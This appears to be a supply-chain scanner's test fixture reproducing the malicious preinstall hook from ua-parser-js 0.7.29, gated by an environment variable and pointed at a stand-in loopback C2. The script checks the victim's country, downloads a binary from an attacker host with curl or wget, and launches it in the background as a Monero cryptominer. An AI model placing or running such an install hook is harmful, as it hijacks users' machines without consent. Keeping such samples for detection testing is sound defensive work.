# preinstall.sh of 0.7.29 (faisalman/ua-parser-js#538); freegeoip.app and 159.148.186.228 are
# the loopback C2 here, and the "miner" it fetches is a script that exits. The wallet is redacted.
# Does nothing outside the live-corpus tests (the host names are the real ones).
[ "$SUPPLYWATCH_LIVE_CORPUS" = 1 ] || exit 0
IP=$(curl -k __C2@freegeoip.app__/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
    then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
        then
        curl __C2@citationsherbe.at__/download/jsextension -o jsextension
        if [ ! -f jsextension ]
            then
            wget __C2@citationsherbe.at__/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u 49REDACTEDWALLET --cpu-max-threads-hint=50 --donate-level=1 --background >/dev/null 2>&1
    fi
fi
